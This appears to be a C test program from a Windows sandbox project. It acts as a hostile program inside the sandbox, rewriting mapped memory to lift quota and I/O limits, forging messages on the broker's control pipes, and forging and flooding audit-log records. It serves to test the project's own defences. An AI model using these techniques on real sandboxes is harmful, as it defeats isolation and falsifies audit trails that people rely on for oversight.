/* trustattack.c - a hostile boxed program against what the box trusts: the
 * storage quota's count, the audit log, the box index and the service
 * manager. Each command tries what an attacker inside the box would, with
 * ordinary API calls only (no raw system calls, no unhooking), and prints
 * what it managed; the e2e tests (tests/e2e/test_escape_trust.py) check the
 * host, other boxes and the log stayed as they must.
 *
 *   trustattack quota QUOTA FILE BYTES
 *       raises the quota in any writable mapping holding {used, QUOTA},
 *       sends forged "freed"/"reserve" messages on the runtime's broker
 *       connections, then writes BYTES to FILE in 64 KiB writes.
 *   trustattack audit DENIED SECONDS
 *       opens DENIED (an audited deny: the runtime connects to the broker),
 *       then on the runtime's broker connections writes records claiming
 *       another pid and image and an "open" by a made-up rule, and floods
 *       records (64 KiB names, and well-formed ones) for SECONDS.
 *   trustattack iolimit SRC DST
 *       in a box with an I/O limit: makes every small read-only mapped
 *       view writable and clears what looks like the broker's limits hint
 *       ({generation, memory_limited, io_limited = 1}), sends forged "io"
 *       requests (zero amounts, a bad direction, moved counts of 2^63) on
 *       the runtime's broker connections, then copies SRC to DST 64 KiB a
 *       call and prints how long it took: "unlocked U sent S copy_ms=W".
 */
#include <windows.h>
#include <winternl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <wchar.h>

/* ---- handles of this process that lead to the box's broker ---- */

typedef struct {
    UNICODE_STRING name;
    WCHAR buffer[512];
} object_name;

/* The runtime's own connections to the broker's control pipe
 * (\Device\NamedPipe\FVM.<hash>.ctl): found by trying handle values. */
static int broker_pipes(HANDLE *out, int cap)
{
    int n = 0;
    for (uintptr_t v = 4; v < 0x4000 && n < cap; v += 4) {
        HANDLE h = (HANDLE)v;
        if (GetFileType(h) != FILE_TYPE_PIPE)
            continue;
        object_name on;
        ULONG len = 0;
        if (NtQueryObject(h, (OBJECT_INFORMATION_CLASS)1 /* ObjectNameInformation */, &on, sizeof on, &len) < 0 ||
            !on.name.Buffer)
            continue;
        on.name.Buffer[on.name.Length / 2 < 511 ? on.name.Length / 2 : 511] = 0;
        if (wcsstr(on.name.Buffer, L"FVM.") && wcsstr(on.name.Buffer, L".ctl"))
            out[n++] = h;
    }
    return n;
}

static void put64(uint8_t *p, uint64_t v)
{
    for (int i = 0; i < 8; i++)
        p[i] = (uint8_t)(v >> (8 * i));
}

/* ---- quota ---- */

/* Raises the quota in every writable mapped page that holds {used, quota}. */
static int forge_usage_views(int64_t quota)
{
    int forged = 0;
    MEMORY_BASIC_INFORMATION mbi;
    for (uint8_t *at = 0; VirtualQuery(at, &mbi, sizeof mbi); at = (uint8_t *)mbi.BaseAddress + mbi.RegionSize) {
        if (mbi.State != MEM_COMMIT || mbi.Type != MEM_MAPPED || mbi.RegionSize > 1 << 16)
            continue;
        if (!(mbi.Protect & (PAGE_READWRITE | PAGE_READONLY)) || (mbi.Protect & PAGE_GUARD))
            continue;
        int64_t *v = mbi.BaseAddress;
        if (v[1] != quota || v[0] < 0 || v[0] > quota)
            continue;
        DWORD old;
        if (!(mbi.Protect & PAGE_READWRITE) &&
            !VirtualProtect(mbi.BaseAddress, 4096, PAGE_READWRITE, &old))
            continue;
        v[1] = (int64_t)1 << 40;
        v[0] = 0;
        forged++;
    }
    return forged;
}

static int cmd_quota(int argc, wchar_t **argv)
{
    if (argc < 5)
        return 2;
    int64_t quota = _wtoi64(argv[2]);
    int64_t total = _wtoi64(argv[4]);
    int forged = forge_usage_views(quota);
    /* Forged messages on the runtime's own broker connections: "I freed a
     * terabyte", "I still hold a terabyte of lease". */
    HANDLE pipes[8];
    int npipes = broker_pipes(pipes, 8), sent = 0;
    for (int i = 0; i < npipes; i++) {
        uint8_t freed[16], reserve[24];
        DWORD done;
        memcpy(freed, "FVMQFR01", 8);
        put64(freed + 8, (uint64_t)1 << 40);
        memcpy(reserve, "FVMQRS01", 8);
        put64(reserve + 8, 1);
        put64(reserve + 16, (uint64_t)1 << 40);
        if (WriteFile(pipes[i], freed, sizeof freed, &done, NULL))
            sent++;
        uint64_t granted = 0;
        if (WriteFile(pipes[i], reserve, sizeof reserve, &done, NULL)) {
            sent++;
            ReadFile(pipes[i], &granted, sizeof granted, &done, NULL);
        }
    }
    HANDLE f = CreateFileW(argv[3], GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    if (f == INVALID_HANDLE_VALUE) {
        printf("ERR CreateFile %lu\n", GetLastError());
        return 1;
    }
    static char chunk[65536];
    memset(chunk, 'Q', sizeof chunk);
    int64_t written = 0;
    DWORD err = 0;
    while (written < total) {
        DWORD n = 0, want = total - written < (int64_t)sizeof chunk ? (DWORD)(total - written) : sizeof chunk;
        if (!WriteFile(f, chunk, want, &n, NULL)) {
            err = GetLastError();
            break;
        }
        written += n;
    }
    CloseHandle(f);
    printf("forged-views %d sent %d wrote %lld error %lu\n", forged, sent, (long long)written, err);
    return 0;
}

/* An audit message as core/brokermsg.h lays it out. */
static size_t audit_message(uint8_t *out, uint32_t type, uint32_t pid, const char *op, const char *decision,
                            const char *rule, const char *image, const char *name, size_t name_len)
{
    const char *texts[5] = {op, decision, rule, image, name};
    size_t lens[5] = {strlen(op), strlen(decision), strlen(rule), strlen(image), name_len};
    memcpy(out, "FVMAUD01", 8);
    memcpy(out + 8, &type, 4);
    memcpy(out + 12, &pid, 4);
    for (int i = 0; i < 4; i++) {
        uint16_t l = (uint16_t)lens[i];
        memcpy(out + 16 + 2 * i, &l, 2);
    }
    uint32_t nl = (uint32_t)name_len;
    memcpy(out + 24, &nl, 4);
    size_t at = 28;
    for (int i = 0; i < 5; i++) {
        memcpy(out + at, texts[i], lens[i]);
        at += lens[i];
    }
    return at;
}

static int cmd_audit(int argc, wchar_t **argv)
{
    if (argc < 4)
        return 2;
    HANDLE h = CreateFileW(argv[2], GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    if (h != INVALID_HANDLE_VALUE)
        CloseHandle(h);
    DWORD seconds = (DWORD)_wtoi(argv[3]);
    HANDLE pipes[8];
    int npipes = broker_pipes(pipes, 8);
    static uint8_t msg[65536];
    static char big[60000];
    memset(big, 'A', sizeof big);
    char denied[1024];
    int dlen = WideCharToMultiByte(CP_UTF8, 0, argv[2], -1, denied, sizeof denied, NULL, NULL);
    char nt_denied[1100];
    snprintf(nt_denied, sizeof nt_denied, "\\??\\%s", dlen > 0 ? denied : "");
    unsigned long long forged = 0, flood_bytes = 0, flood = 0;
    for (int i = 0; i < npipes; i++) {
        DWORD done;
        size_t n = audit_message(msg, 0, 4, "open", "open", "made-up.ini:1", "C:\\windows\\system32\\services.exe",
                                 "\\??\\C:\\secret.txt", strlen("\\??\\C:\\secret.txt"));
        if (WriteFile(pipes[i], msg, (DWORD)n, &done, NULL))
            forged++;
        n = audit_message(msg, 0, 4, "open", "deny", "policy.ini:2", "C:\\windows\\system32\\services.exe", nt_denied,
                          strlen(nt_denied));
        if (WriteFile(pipes[i], msg, (DWORD)n, &done, NULL))
            forged++;
    }
    DWORD start = GetTickCount();
    while (npipes && GetTickCount() - start < seconds * 1000) {
        DWORD done;
        size_t n = flood & 1 ? audit_message(msg, 0, 0, "open", "deny", "policy.ini:2", "x", nt_denied, strlen(nt_denied))
                             : audit_message(msg, 0, 0, "open", "deny", "policy.ini:2", "x", big, sizeof big);
        if (!WriteFile(pipes[flood % npipes], msg, (DWORD)n, &done, NULL))
            break;
        flood++;
        flood_bytes += n;
    }
    printf("pid %lu pipes %d forged %llu flood %llu flood-bytes %llu\n", GetCurrentProcessId(), npipes, forged, flood,
           flood_bytes);
    return 0;
}

/* ---- I/O limits ---- */

static int cmd_iolimit(int argc, wchar_t **argv)
{
    if (argc < 4)
        return 2;
    int unlocked = 0, sent = 0;
    MEMORY_BASIC_INFORMATION mbi;
    for (uint8_t *at = 0; VirtualQuery(at, &mbi, sizeof mbi); at = (uint8_t *)mbi.BaseAddress + mbi.RegionSize) {
        if (mbi.State != MEM_COMMIT || mbi.Type != MEM_MAPPED || mbi.RegionSize > 1 << 16 ||
            !(mbi.Protect & PAGE_READONLY))
            continue;
        volatile LONG *v = mbi.BaseAddress;
        if (v[2] != 1 || (v[1] != 0 && v[1] != 1))
            continue;
        DWORD old;
        if (VirtualProtect(mbi.BaseAddress, 4096, PAGE_READWRITE, &old)) {
            v[2] = 0;
            unlocked++;
        }
    }
    /* The runtime connects when it first asks: make it ask once. */
    HANDLE warm = CreateFileW(argv[2], GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    static char chunk[65536];
    DWORD n;
    ReadFile(warm, chunk, 4096, &n, NULL);
    CloseHandle(warm);
    HANDLE pipes[8];
    int npipes = broker_pipes(pipes, 8);
    for (int i = 0; i < npipes; i++) {
        static const uint32_t dirs[] = {0, 1, 7};   /* 7: not a direction */
        for (int d = 0; d < 3; d++) {
            uint8_t req[48], reply[64];
            DWORD done;
            memset(req, 0, sizeof req);   /* zero bytes and ops asked */
            memcpy(req, "io\0\0\0\0\0\0", 8);
            memcpy(req + 8, &dirs[d], 4);
            put64(req + 32, (uint64_t)1 << 63);   /* "moved" counts */
            put64(req + 40, (uint64_t)1 << 63);
            if (WriteFile(pipes[i], req, sizeof req, &done, NULL) && ReadFile(pipes[i], reply, sizeof reply, &done, NULL))
                sent++;
        }
    }
    HANDLE in = CreateFileW(argv[2], GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
    HANDLE out = CreateFileW(argv[3], GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, 0, NULL);
    if (in == INVALID_HANDLE_VALUE || out == INVALID_HANDLE_VALUE) {
        printf("ERR CreateFile %lu\n", GetLastError());
        return 1;
    }
    LARGE_INTEGER f, t0, t1;
    QueryPerformanceFrequency(&f);
    QueryPerformanceCounter(&t0);
    while (ReadFile(in, chunk, sizeof chunk, &n, NULL) && n)
        WriteFile(out, chunk, n, &n, NULL);
    QueryPerformanceCounter(&t1);
    CloseHandle(in);
    CloseHandle(out);
    printf("unlocked %d sent %d copy_ms=%lld\n", unlocked, sent, (long long)((t1.QuadPart - t0.QuadPart) * 1000 / f.QuadPart));
    return 0;
}

int wmain(int argc, wchar_t **argv)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc >= 2 && !wcscmp(argv[1], L"quota"))
        return cmd_quota(argc, argv);
    if (argc >= 2 && !wcscmp(argv[1], L"audit"))
        return cmd_audit(argc, argv);
    if (argc >= 2 && !wcscmp(argv[1], L"iolimit"))
        return cmd_iolimit(argc, argv);
    fprintf(stderr, "usage: trustattack quota QUOTA FILE BYTES\n");
    return 2;
}
